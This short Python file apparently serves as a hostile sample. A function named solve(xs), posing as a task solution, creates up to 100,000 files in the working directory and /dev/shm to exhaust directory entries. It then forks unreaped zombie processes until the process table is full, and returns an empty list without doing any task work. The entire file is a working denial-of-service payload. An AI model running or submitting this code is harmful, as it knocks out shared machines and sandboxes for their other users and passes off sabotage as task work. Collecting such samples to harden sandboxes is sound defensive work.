# mechanism: numbers of files and processes
"""Uses up what isn't bytes: names in folders, and processes that are dead but never waited for."""
import os


def solve(xs):
    for place in (os.getcwd(), *(["/dev/shm"] if os.getcwd() == "/tmp" else [])):
        try:
            for n in range(100_000):
                os.close(os.open(f"{place}/{n}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            pass
    try:
        while True:
            if os.fork() == 0:
                os._exit(0)
    except OSError:
        pass
    return []
